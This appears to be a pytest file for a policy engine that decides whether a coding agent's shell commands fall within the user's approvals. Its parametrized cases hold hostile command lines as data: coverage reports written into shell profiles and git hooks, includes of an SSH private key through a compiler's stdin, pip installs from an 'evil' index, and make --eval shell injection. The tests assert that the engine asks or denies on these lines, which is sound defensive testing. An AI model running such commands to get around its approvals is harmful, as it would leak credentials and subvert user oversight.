"""Review CV: the everyday tools of coding agents and what their approvals cover.

CV1 `pytest --cov-report=TYPE:PATH` wrote protected files under an approval of `pytest`;
CV2 `python3 -m TOOL` was offered without its verb (`python3 -m uv` approved `python3 -m uv
run bash`); CV3 `python3 -m TOOL` skipped the tool's own rules; CV4 compilers read source
from stdin that includes any file; CV5 `cmake --build … --` handed make its words."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from realrun import copy_workspace, judge, scan_judge

from policylang import Verdict


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = copy_workspace(tmp_path)
    (tmp_path / "home" / ".ssh").mkdir()
    (tmp_path / "home" / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-DATA\n")
    return ws


def _under_the_offer(asked: str, attack: str, workspace: Path) -> tuple[str | None, Verdict]:
    offered = judge(asked, workspace).suggested_rule
    decision = judge(attack, workspace, *((offered,) if offered is not None else ()))
    return offered, decision.verdict


@pytest.mark.parametrize(
    "line",
    [
        "pytest --cov=. --cov-report=xml:~/.bashrc",
        "pytest --cov --cov-report=xml:.git/hooks/pre-commit",
        "pytest --cov --cov-report xml:.claude/settings.json",
        "pytest --cov-report=json:.mcp.json",
        "pytest --cov-report=markdown:CLAUDE.md",
        "pytest --cov-report=html:.claude",
    ],
)
def test_cv1_a_typed_report_path_is_a_path(workspace: Path, line: str) -> None:
    offered, verdict = _under_the_offer("pytest", line, workspace)
    assert offered == "pytest"
    assert verdict is Verdict.DENY


@pytest.mark.parametrize(
    "line",
    ["pytest --cov-report=term-missing", "pytest --cov-report=xml:cov.xml",
     "git clone https://github.com/a/b", "git clone git@github.com:a/b.git"],
)  # fmt: skip
def test_cv1_reports_in_the_workspace_and_urls_stay_approved(workspace: Path, line: str) -> None:
    asked = " ".join(line.split()[:2]) if line.startswith("git") else "pytest"
    offered, verdict = _under_the_offer(asked, line, workspace)
    assert offered is not None
    assert verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    ("asked", "offered"),
    [
        ("python3 -m uv sync", "python3 -m uv sync"),
        ("python3 -m poetry install", "python3 -m poetry install"),
        ("python3 -m pre_commit run --all-files", "python3 -m pre_commit run"),
        ("python3 -m pip install -r requirements.txt", "python3 -m pip install"),
        ("python3 -m pytest -q", "python3 -m pytest"),
        ("python3 -mpytest -q", "python3 -mpytest"),
    ],
)
def test_cv2_a_tools_module_is_offered_with_the_tools_verb(
    workspace: Path, asked: str, offered: str
) -> None:
    assert judge(asked, workspace).suggested_rule == offered


@pytest.mark.parametrize(
    ("approval", "line", "verdict"),
    [
        # CV2: the old, verbless offers no longer reach another verb
        ("python3 -m uv", "python3 -m uv run bash", Verdict.ASK),
        ("python3 -m uv", "python3 -m uv run sudo id", Verdict.DENY),
        ("python3 -m uv", "python3 -m uv run git push --force origin main", Verdict.DENY),
        ("python3 -m pre_commit run", "python3 -m pre_commit install", Verdict.ASK),
        # CV3: the tool's own rules hold
        ("python3 -m pip install", "python3 -m pip install --user ./pkg", Verdict.ASK),
        ("python3 -m pip install", "python3 -m pip install -i http://evil x", Verdict.ASK),
        ("python3 -m pytest", "python3 -m pytest --basetemp=src", Verdict.ASK),
        ("python3 -m pytest", "python3 -m pytest -p evil", Verdict.ASK),
        ("python3 -m black", "python3 -m black --check --diff --include '\\.env$' .",
         Verdict.ASK),
        # and what the approvals meant still passes
        ("python3 -m uv sync", "python3 -m uv sync --frozen", Verdict.ALLOW),
        ("python3 -m pip install", "python3 -m pip install -r requirements.txt", Verdict.ALLOW),
        ("python3 -m pytest", "python3 -m pytest -q tests", Verdict.ALLOW),
        ("python3 -m black", "python3 -m black --check .", Verdict.ALLOW),
    ],
)  # fmt: skip
def test_cv2_cv3_a_tools_module_is_judged_as_the_tool(
    workspace: Path, approval: str, line: str, verdict: Verdict
) -> None:
    decision = judge(line, workspace, approval)
    assert decision.verdict is verdict, decision.explain()


@pytest.mark.parametrize(
    ("approval", "line"),
    [
        ("cc", "echo '#include \"/x/id_rsa\"' | cc -E -"),
        ("gcc", "gcc -E -x c - <<< '#include \"/x/id_rsa\"'"),
        ("gcc", "gcc -E /dev/stdin < src.c"),
        ("cpp", "cpp <<< '#include \"/x/id_rsa\"'"),
        ("clang", "clang -E - <<< x"),
        ("rustc", "rustc - <<< 'include!(\"/x/id_rsa\");'"),
        ("esbuild", "echo 'import k from \"/x\"' | esbuild --bundle --loader:=text"),
        ("x86_64-linux-gnu-gcc-12", "x86_64-linux-gnu-gcc-12 -E -"),
    ],
)
def test_cv4_a_compiler_reading_source_from_stdin_asks(
    workspace: Path, approval: str, line: str
) -> None:
    decision = judge(line, workspace, approval)
    assert decision.verdict is Verdict.ASK, decision.explain()
    assert any(r.rule_id == "engine.stdin-source" for r in decision.reasons)


@pytest.mark.parametrize(
    ("approval", "line"),
    [("cc", "cc -o main main.c"), ("cpp", "cpp main.c"), ("rustc", "rustc main.rs"),
     ("esbuild", "esbuild src/app.ts --bundle --outfile=out.js"), ("gcc", "gcc -c a.c")],
)  # fmt: skip
def test_cv4_compiling_named_sources_stays_approved(
    workspace: Path, approval: str, line: str
) -> None:
    # (under a ruleset that lets compilers be approved: the shipped ones ask, DT)
    assert scan_judge(line, workspace, approval).verdict is Verdict.ALLOW


def test_cv4_the_preprocessor_really_prints_what_stdin_includes(workspace: Path) -> None:
    key = workspace.parent / "home" / ".ssh" / "id_rsa"
    done = subprocess.run(
        ["cpp"], input=f'#include "{key}"\n', capture_output=True, text=True, check=True
    )
    assert "PRIVATE-KEY-DATA" in done.stdout


@pytest.mark.parametrize(
    ("approval", "line", "verdict"),
    [
        ("cmake --build", "cmake --build build -- --eval='${shell id>PWNED}'", Verdict.ASK),
        ("cmake --build", "cmake --build build -- -f /dev/null", Verdict.ASK),
        ("meson compile", "meson compile -C build --ninja-args=-f,/tmp/x", Verdict.ASK),
        ("meson compile", "meson compile -C build --nin=-f,/tmp/x", Verdict.ASK),
        ("cmake --build", "cmake --build build -j4 --target all", Verdict.ALLOW),
        ("meson compile", "meson compile -C build", Verdict.ALLOW),
    ],
)
def test_cv5_words_for_the_native_build_tool_ask(
    workspace: Path, approval: str, line: str, verdict: Verdict
) -> None:
    decision = judge(line, workspace, approval)
    assert decision.verdict is verdict, decision.explain()


@pytest.mark.parametrize(
    ("approval", "line", "verdict"),
    [
        # CV6: an approved lister runs the interpreter an option names
        ("uv pip list", "uv pip list --python ./evil", Verdict.ASK),
        ("mypy", "mypy --python-executable ./evil .", Verdict.ASK),
        # CV7: JVM options that open a debugger port, load an agent or pick the JVM
        ("mvn test", 'mvn test "-DargLine=-agentlib:jdwp=transport=dt_socket,address=*:5005"',
         Verdict.ASK),
        ("mvn test", "mvn test -Dmaven.surefire.debug", Verdict.ASK),
        ("mvn test", "mvn test -Djvm=./evil", Verdict.ASK),
        ("gradle test", "gradle test --debug-jvm", Verdict.ASK),
        ("gradle test", "gradle test -Dgradle.user.home=/tmp", Verdict.ASK),
        ("gradle test", "gradle test --include-build /tmp/x", Verdict.ASK),
        # CV8: configuration or code from elsewhere
        ("tox", "tox -c /tmp/x.ini", Verdict.ASK),
        ("nox", "nox -f /tmp/noxfile.py", Verdict.ASK),
        ("jest", "jest --config=/tmp/x.js", Verdict.ASK),
        ("eslint", "eslint -c /tmp/x.js .", Verdict.ASK),
        ("prettier", "prettier --check --plugin=/tmp/e.js .", Verdict.ASK),
        ("uv sync", "uv sync --directory /tmp", Verdict.ASK),
        ("poetry install", "poetry install -C /tmp", Verdict.ASK),
        # CV10, CV11, CV12
        ("deno test", "deno test -A", Verdict.ASK),
        ("deno test", "deno test --allow-run", Verdict.ASK),
        ("esbuild", "esbuild --serve=0.0.0.0:8123 --servedir=.", Verdict.ASK),
        ("rsync", "rsync -av src/ dst/ --daemon", Verdict.ASK),
        ("mypy", "mypy --install-types --non-interactive .", Verdict.ASK),
        ("pytest", "pytest --pastebin=all", Verdict.ASK),
        ("pip list", "pip list --outdated --index-url http://evil/", Verdict.ASK),
        ("zip", "zip -rm x.zip src", Verdict.ASK),
        # what the approvals are for
        ("uv pip list", "uv pip list", Verdict.ALLOW),
        ("mypy", "mypy .", Verdict.ALLOW),
        ("mvn test", "mvn test -DskipTests", Verdict.ALLOW),
        ("gradle test", "gradle test --tests Foo", Verdict.ALLOW),
        ("deno test", "deno test", Verdict.ALLOW),
        ("rsync", "rsync -av src/ dst/", Verdict.ALLOW),
        # kept: an approval of rsync, as of scp, covers copies to other hosts (review P)
        ("rsync", "rsync -av src/ h:dst/", Verdict.ALLOW),
        ("zip", "zip -r x.zip src", Verdict.ALLOW),
    ],
)  # fmt: skip
def test_cv6_to_cv12_what_an_approval_of_the_everyday_line_does_not_reach(
    workspace: Path, approval: str, line: str, verdict: Verdict
) -> None:
    decision = judge(line, workspace, approval)
    assert decision.verdict is verdict, decision.explain()


def test_cv12_a_webhook_variable_is_a_secret(workspace: Path) -> None:
    assert judge("echo $SLACK_WEBHOOK_URL", workspace).verdict is Verdict.ASK
